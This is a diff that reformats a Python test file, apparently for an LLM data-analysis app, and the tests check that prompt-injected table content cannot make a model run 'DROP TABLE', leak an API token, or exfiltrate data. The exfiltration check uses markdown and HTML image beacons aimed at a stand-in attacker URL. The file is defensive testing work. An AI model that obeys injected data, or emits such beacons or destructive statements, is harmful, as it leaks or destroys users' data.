@@ -70,8 +70,11 @@ def test_an_obedient_model_cannot_run_a_forbidden_statement_load_a_url_or_leak_t
 ) -> None:
     endpoint.responder = obedient_model
     db = injected_db()
-    client = ModelClient(ProviderSettings(EndpointType.DEDICATED, "tgi", api_key=TOKEN, endpoint_url=endpoint.url),
-                         state=EndpointState(), policy=FAST_RETRIES)  # fmt: skip
+    client = ModelClient(
+        ProviderSettings(EndpointType.DEDICATED, "tgi", api_key=TOKEN, endpoint_url=endpoint.url),
+        state=EndpointState(),
+        policy=FAST_RETRIES,
+    )
     answers = [answer_question(q, [], db, client) for q in ("What do the notes say?", "Summarise the notes table")]
     # The injected text did reach the model (it is in the schema's list of values) ...
     assert any("DROP TABLE earthquakes" in json.dumps(r.body) for r in endpoint.chat_requests())
@@ -89,8 +92,9 @@ def test_an_obedient_model_cannot_run_a_forbidden_statement_load_a_url_or_leak_t
 
 def test_the_page_never_shows_the_token(endpoint: FakeEndpoint) -> None:
     endpoint.responder = obedient_model
-    at = open_app(secrets={"HUGGINGFACE_API_KEY": TOKEN, "HUGGINGFACE_ENDPOINT_URL": endpoint.url,
-                           "HUGGINGFACE_MODEL": "tgi"}).run()  # fmt: skip
+    at = open_app(
+        secrets={"HUGGINGFACE_API_KEY": TOKEN, "HUGGINGFACE_ENDPOINT_URL": endpoint.url, "HUGGINGFACE_MODEL": "tgi"}
+    ).run()
     at.chat_input[0].upload(
         "notes.csv", ("note\n" + "\n".join(f'"{n}"' for n in INJECTIONS)).encode(), "text/csv"
     ).run()
@@ -105,8 +109,11 @@ def test_the_page_never_shows_the_token(endpoint: FakeEndpoint) -> None:
 @pytest.mark.browser
 def test_an_insight_cannot_make_the_browser_fetch_an_image(page, endpoint: FakeEndpoint) -> None:  # type: ignore[no-untyped-def]
     """The page is where an image would leak data: the loopback endpoint itself plays the attacker's server."""
-    beacons = [f"![a[b]c]({endpoint.url}/leak-1.png?d=1707)", f"<img src='{endpoint.url}/leak-2.png'>",
-               f"![x][r]\n\n[r]: {endpoint.url}/leak-3.png"]  # fmt: skip
+    beacons = [
+        f"![a[b]c]({endpoint.url}/leak-1.png?d=1707)",
+        f"<img src='{endpoint.url}/leak-2.png'>",
+        f"![x][r]\n\n[r]: {endpoint.url}/leak-3.png",
+    ]
     metric_label = f"![m]({endpoint.url}/leak-4.png)"
     column_name = f"![c]({endpoint.url}/leak-5.png)"
     model = ScriptedModel(insight="There were 1,707 events. " + " ".join(beacons))
